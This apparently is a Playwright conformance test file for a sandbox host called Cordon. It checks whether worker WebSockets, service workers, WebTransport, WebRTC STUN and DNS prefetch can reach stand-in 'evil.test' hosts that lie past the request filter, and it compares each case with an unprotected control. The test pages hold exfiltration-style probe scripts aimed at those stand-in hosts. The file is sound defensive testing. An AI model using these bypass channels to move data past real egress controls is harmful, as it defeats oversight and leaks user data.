// Ways out that Electron's request filter does not see (issue 15 item 2): WebSockets of
// workers and service workers (electron#47857), WebTransport, WebRTC (ICE over UDP) and
// hostnames (DNS prefetch). Each runs twice in real Chromium, with evidence at the
// unapproved server or a real UDP socket on 127.0.0.1:
// - "cordon": the Chromium host (request filter, guard, service-worker guard) in a
//   Chromium whose proxy is Cordon's own PAC allowlist (allowlistPacScript, what
//   session.setProxy installs) and whose resolver rules are Cordon's (hostResolverRules),
//   each given as the Chromium switch that carries the same setting; scenarios marked
//   `guardAlone` run with no PAC, to prove the guard's layer on its own;
// - "control": a plain page in a plain Chromium, to show each measurement can fail.
// Unapproved hosts are names under .evil.test that a trailing `MAP *.evil.test 127.0.0.1`
// resolves (this machine has no DNS we control); Chromium never sends loopback names
// through a proxy, so the approved app stays on 127.0.0.1 and the unapproved side uses names.
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, expect, test, type Browser, type Page } from '@playwright/test';
import { CHROMIUM_ARGS, CHROMIUM_PATH } from '../../playwright.config';
import type { AuditEventInput } from '../../common/audit/auditSink';
import { originsOnlyRules, type HostedAppRules } from '../../common/hosting/hostedAppRules';
import { allowlistPacScript, hostResolverRules } from '../../main/network/networkAllowlist';
import { RecordingAuditSink } from '../support/electronFakes';
import { startChromiumHost } from './chromiumHost';

/** The test's stand-in for DNS: unapproved names resolve to the evil server's machine. */
const TEST_DNS = 'MAP *.evil.test 127.0.0.1';

interface Evidence {
  /** HTTP requests and WebSocket upgrades at the evil server, by scenario id. */
  http: Map<string, number>;
  /** TCP connections the evil server accepted (a preconnect makes one without a request). */
  connections: number;
  /** Datagrams at the UDP socket (STUN binding requests, QUIC initials for WebTransport). */
  datagrams: number;
}

let evil: Server;
let app: Server;
let udp: Socket;
let appOrigin: string;
let evilPort: number;
const evidence: Evidence = { http: new Map(), connections: 0, datagrams: 0 };

const hitId = (url: string | undefined) => /^\/hit\/([a-z0-9-]+)/.exec(url ?? '')?.[1] ?? 'unknown';
const count = (id: string) => evidence.http.set(id, (evidence.http.get(id) ?? 0) + 1);

interface NetScenario {
  id: string;
  /** The page's script; `evil(host)` is an unapproved origin on a name under .evil.test. */
  script: (evil: (label: string) => string, udpPort: number) => string;
  /** Which evidence must stay empty. */
  measure: (id: string) => number;
  /** The audit event proving the attempt was recorded, or null where only the network layer refuses (it does not audit). */
  audited: ((event: AuditEventInput) => boolean) | null;
  /** The app's rules are these, but with call permissions (WebRTC relay-only). */
  calls?: boolean;
  /** Run under Cordon without the PAC allowlist: the guard is the only layer. */
  guardAlone?: boolean;
}

const httpHits = (id: string) => evidence.http.get(id) ?? 0;
/** Datagrams carry no scenario id: each scenario's run starts from zero (reset). */
const datagrams = () => evidence.datagrams;

const SCENARIOS: NetScenario[] = [
  { id: 'worker-websocket', script: (evil) => `new Worker('/worker.js?u=' + encodeURIComponent(${JSON.stringify(evil('worker-websocket').replace('http:', 'ws:'))}));`, measure: httpHits, audited: null },
  {
    id: 'service-worker-websocket',
    script: (evil) => `navigator.serviceWorker.register('/worker.js?u=' + encodeURIComponent(${JSON.stringify(evil('service-worker-websocket').replace('http:', 'ws:'))}));`,
    measure: httpHits,
    audited: (e) => e.type === 'request.blocked' && e.reason === 'service-worker-websocket',
  },
  {
    // The same worker with no PAC below the guard: the service-worker guard alone holds it.
    id: 'service-worker-websocket-guard-alone',
    guardAlone: true,
    script: (evil) => `navigator.serviceWorker.register('/worker.js?u=' + encodeURIComponent(${JSON.stringify(evil('service-worker-websocket-guard-alone').replace('http:', 'ws:'))}));`,
    measure: httpHits,
    audited: (e) => e.type === 'request.blocked' && e.reason === 'service-worker-websocket' && e.origin === `ws://service-worker-websocket-guard-alone.evil.test:${evilPort}`,
  },
  {
    id: 'service-worker-webtransport',
    guardAlone: true,
    script: (_evil, port) => `navigator.serviceWorker.register('/worker.js?t=' + encodeURIComponent('https://wt.evil.test:${port}/hit/service-worker-webtransport'));`,
    measure: datagrams,
    audited: (e) => e.type === 'request.blocked' && e.reason === 'service-worker-webtransport',
  },
  {
    id: 'shared-worker',
    script: (evil) => `try { new SharedWorker('/worker.js?u=' + encodeURIComponent(${JSON.stringify(evil('shared-worker').replace('http:', 'ws:'))})); } catch (e) {}`,
    measure: httpHits,
    audited: (e) => e.type === 'request.blocked' && e.reason === 'service-worker-shared-worker-not-permitted',
  },
  {
    id: 'webtransport',
    script: (_evil, port) => `try { new WebTransport('https://wt.evil.test:${port}/hit/webtransport').ready.catch(() => {}); } catch (e) {}`,
    measure: datagrams,
    audited: (e) => e.type === 'request.blocked' && e.reason === 'service-worker-webtransport-not-permitted',
  },
  {
    id: 'webrtc-datachannel',
    script: (_evil, port) => `try { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); pc.createDataChannel('chart'); pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch (e) {}`,
    measure: datagrams,
    audited: (e) => e.type === 'request.blocked' && e.reason === 'service-worker-webrtc-not-permitted',
  },
  {
    // An app that may make calls: WebRTC exists, but only TURN relays on its own hosts.
    id: 'stun-udp',
    calls: true,
    script: (_evil, port) => `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); pc.createDataChannel('chart'); pc.createOffer().then((o) => pc.setLocalDescription(o));`,
    measure: datagrams,
    audited: (e) => e.type === 'request.blocked' && e.reason === 'service-worker-ice-server-not-approved',
  },
];

/** Where this host's path differs from Electron's, measured here. */
const NOTES: Record<string, string[]> = {
  'worker-websocket': ["this host's request filter (CDP Fetch, page WebSocket routing) never sees a worker's WebSocket; in Electron onBeforeRequest may, but the PAC allowlist is what this run proves"],
  'service-worker-webtransport': ['no HTTP/3 server here: the control shows Chromium sending QUIC to the unapproved port; under Cordon the service-worker guard refuses the constructor before any packet'],
  webtransport: ['no HTTP/3 server here: the control shows Chromium sending QUIC to the unapproved port (datagrams at the UDP socket), no session ever completes; under Cordon both the main-world guard and the PAC allowlist stop it'],
  'webrtc-datachannel': [
    'on this Chromium --force-webrtc-ip-handling-policy=disable_non_proxied_udp (the setting behind setWebRTCIPHandlingPolicy) did not stop STUN to a server on 127.0.0.1, with or without the PAC; the main-world guard is what blocks here, and what the policy does in Electron is unproven',
  ],
};

const scenarioPage = (scenario: NetScenario) =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${scenario.id}</title></head><body><h1>Synthetic chart SYN-0001</h1><script>${scenario.script((label) => `http://${label}.evil.test:${evilPort}/hit/${label}`, evilPort)}</script></body></html>`;

test.beforeAll(async () => {
  evil = createServer((req, res) => {
    count(hitId(req.url));
    res.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*' }).end('exfiltrated');
  });
  evil.on('upgrade', (req, socket) => {
    count(hitId(req.url));
    socket.destroy();
  });
  evil.on('connection', () => (evidence.connections += 1));
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilPort = (evil.address() as AddressInfo).port;
  // The same port over UDP: STUN binding requests and WebTransport's QUIC initials land here.
  udp = createSocket('udp4');
  udp.on('message', () => (evidence.datagrams += 1));
  await new Promise<void>((resolve) => udp.bind(evilPort, '127.0.0.1', resolve));
  app = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    if (url.pathname === '/worker.js') {
      // A worker (dedicated, shared or service) that opens a WebSocket (u) or a WebTransport session (t) to the given URL.
      const transport = url.searchParams.get('t');
      const body = transport === null ? `new WebSocket(${JSON.stringify(url.searchParams.get('u') ?? '')});` : `new WebTransport(${JSON.stringify(transport)}).ready.catch(() => {});`;
      res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(body);
      return;
    }
    const scenario = SCENARIOS.find((s) => url.pathname === `/net/${s.id}`);
    if (url.pathname === '/net/dns-prefetch') {
      const name = `syn-0001.evil.test:${evilPort}`;
      res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>dns</title><link rel="dns-prefetch" href="//${name}"><link rel="preconnect" href="http://${name}"></head><body><img alt="" src="http://${name}/hit/dns-prefetch"></body></html>`);
      return;
    }
    if (scenario === undefined) {
      res.writeHead(404).end();
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(scenarioPage(scenario));
  });
  await new Promise<void>((resolve) => app.listen(0, '127.0.0.1', resolve));
  appOrigin = `http://127.0.0.1:${(app.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  udp.close();
  await Promise.all([evil, app].map((s) => new Promise<void>((resolve) => { s.closeAllConnections(); s.close(() => resolve()); })));
});

const launch = (extra: string[]) => chromium.launch({ executablePath: CHROMIUM_PATH, args: [...CHROMIUM_ARGS, ...extra] });

const reset = () => {
  evidence.http.clear();
  evidence.connections = 0;
  evidence.datagrams = 0;
};

/** Loads the scenario and waits a bounded time for whatever it sends to arrive. */
async function attempt(page: Page, path: string): Promise<void> {
  await page.goto(`${appOrigin}${path}`, { waitUntil: 'commit' });
  await page.waitForTimeout(2_500);
}

async function underCordon(browser: Browser, scenario: NetScenario): Promise<{ leaked: number; audited: boolean }> {
  reset();
  const audit = new RecordingAuditSink();
  const base = originsOnlyRules('app', { navigation: [appOrigin], request: [appOrigin] }, true);
  const rules: HostedAppRules = scenario.calls === true ? { ...base, permissions: ['microphone'] } : base;
  const host = await startChromiumHost(browser, new Map([[1, rules]]), audit);
  try {
    await attempt(await host.openApp(1), `/net/${scenario.id}`);
  } finally {
    await host.close();
  }
  return { leaked: scenario.measure(scenario.id), audited: scenario.audited === null ? false : audit.events.some(scenario.audited) };
}

test.describe('egress the request filter does not see', () => {
  let cordon: Browser;
  let guardOnly: Browser;
  let plain: Browser;
  test.beforeAll(async () => {
    // What Electron gets from Cordon: the PAC allowlist and WebRTC's UDP policy, then the test's DNS.
    cordon = await launch([`--proxy-pac-url=${allowlistPacScript([appOrigin])}`, '--force-webrtc-ip-handling-policy=disable_non_proxied_udp', `--host-resolver-rules=${TEST_DNS}`]);
    guardOnly = await launch([`--host-resolver-rules=${TEST_DNS}`]);
    plain = await launch([`--host-resolver-rules=${TEST_DNS}`]);
  });
  test.afterAll(async () => {
    await cordon.close();
    await guardOnly.close();
    await plain.close();
  });

  for (const scenario of SCENARIOS) {
    test(`conformance ${scenario.id} (chromium)`, async () => {
      test.setTimeout(60_000);
      reset();
      const control = await plain.newPage();
      await attempt(control, `/net/${scenario.id}`);
      await control.close();
      const controlLeaked = scenario.measure(scenario.id);
      const { leaked, audited } = await underCordon(scenario.guardAlone === true ? guardOnly : cordon, scenario);
      const blocked = leaked === 0;
      console.log(`CONFORMANCE ${scenario.id} chromium ${blocked && (audited || scenario.audited === null) ? 'PASS' : 'FAIL'} ${blocked ? 'blocked' : 'allowed'} ${audited ? 'audited' : 'unaudited'}`);
      if (scenario.audited === null) console.log(`CONFORMANCE-NOTE chromium ${scenario.id}: refused by the network allowlist (PAC), which records no audit event; PASS here means blocked`);
      for (const note of NOTES[scenario.id] ?? []) console.log(`CONFORMANCE-NOTE chromium ${scenario.id}: ${note}`);
      // The measurement can fail: without Cordon the same page reaches the unapproved side.
      expect(controlLeaked).toBeGreaterThan(0);
      expect(blocked).toBe(true);
      if (scenario.audited !== null) expect(audited).toBe(true);
    });
  }
});

test('the host makes no connection the page did not (no preconnect before the filter refuses a navigation)', async ({ browser }) => {
  reset();
  const target = `http://127.0.0.1:${evilPort}/hit/preconnect`;
  const html = `<link rel="preconnect" href="http://127.0.0.1:${evilPort}"><script>location.href = ${JSON.stringify(target)};</script>`;
  const control = await browser.newPage();
  await control.route(`${appOrigin}/preconnect`, (route) => route.fulfill({ contentType: 'text/html', body: html }));
  await attempt(control, '/preconnect');
  await control.close();
  expect(evidence.connections).toBeGreaterThan(0);
  reset();
  const audit = new RecordingAuditSink();
  const host = await startChromiumHost(browser, new Map([[1, originsOnlyRules('app', { navigation: [appOrigin], request: [appOrigin] }, true)]]), audit);
  try {
    const page = await host.openApp(1);
    await page.route(`${appOrigin}/preconnect`, (route) => route.fulfill({ contentType: 'text/html', body: html }));
    await attempt(page, '/preconnect');
  } finally {
    await host.close();
  }
  // The navigation was refused and audited, and nothing at all connected to the unapproved server.
  expect(audit.events.some((e) => e.type === 'navigation.blocked')).toBe(true);
  expect(evidence.connections).toBe(0);
  console.log(`CONFORMANCE-NOTE chromium with this host's switches, <link rel=preconnect> and a refused navigation opened no connection (measured at the unapproved server); Electron preconnects for resource hints (session 'preconnect' event), which only the PAC allowlist and resolver rules stop there`);
});

test('conformance dns-prefetch (chromium): unapproved names never resolve under Cordon\'s resolver rules', async () => {
  test.setTimeout(60_000);
  // Cordon's rules come first, so the test's DNS behind them never answers for an unapproved name.
  const cordon = await launch([`--host-resolver-rules=${hostResolverRules([appOrigin])} , ${TEST_DNS}`]);
  const plain = await launch([`--host-resolver-rules=${TEST_DNS}`]);
  try {
    reset();
    const control = await plain.newPage();
    await attempt(control, '/net/dns-prefetch');
    const controlLeaked = httpHits('dns-prefetch');
    const controlConnections = evidence.connections;
    reset();
    // No host here: the resolver rules alone, as they apply to every request of the process.
    const page = await cordon.newPage();
    await attempt(page, '/net/dns-prefetch');
    const blocked = httpHits('dns-prefetch') === 0 && evidence.connections === 0;
    console.log(`CONFORMANCE dns-prefetch chromium ${blocked ? 'PASS' : 'FAIL'} ${blocked ? 'blocked' : 'allowed'} unaudited`);
    console.log('CONFORMANCE-NOTE chromium dns-prefetch: DNS lookups themselves cannot be observed here (no DNS server under the test\'s control); the evidence is that the name never resolved (no connection, no request at the evil server). Resolver rules record no audit event.');
    expect(controlLeaked + controlConnections).toBeGreaterThan(0);
    expect(blocked).toBe(true);
  } finally {
    await cordon.close();
    await plain.close();
  }
});
